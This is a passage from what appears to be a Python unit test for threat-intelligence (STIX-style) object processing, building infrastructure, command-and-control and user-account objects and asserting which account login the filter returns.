            "relationship_type": "consists-of",
            "source_ref": i("infrastructure", 1),
            "target_ref": c2,
        },
        observed(c2, acc),
        observed(i("user-account", 2), n=901),
        {**SCO, "type": "user-account", "id": i("user-account", 2), "account_login": "k.sato"},
    ]
    result = run(objs)
    parse(result.objects)
    assert [a["account_login"] for a in of_type(result, "user-account")] == ["ftpdrop"]
